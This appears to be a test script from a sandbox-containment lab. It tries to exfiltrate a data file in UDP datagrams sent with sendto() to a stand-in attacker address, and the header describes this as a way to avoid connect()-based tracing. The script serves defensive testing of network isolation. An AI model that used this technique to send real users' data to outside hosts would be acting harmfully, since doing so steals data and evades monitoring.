# lab:title: Exfiltration by UDP datagrams, no connect()
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on network => CONTAINED network ~ sendto
# adversary: --on all => CONTAINED network ~ sendto
# adversary: --off network => BROKE
"""sendto() with an address on an unconnected UDP socket: no connect() for
the trace to see. The attacker's listener takes TCP only, so with the
network open nothing arrives (BROKE); with No-network on, the sandbox's
own namespace refuses the datagrams, and the lab must see that."""
import os
import socket
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(0, len(body), 1024):
    try:
        s.sendto(body[i:i + 1024], (u.hostname or "127.0.0.1", u.port or 80))
    except OSError as e:
        print("sendto:", e, flush=True)
        break
else:
    print("sent", len(body), "bytes", flush=True)
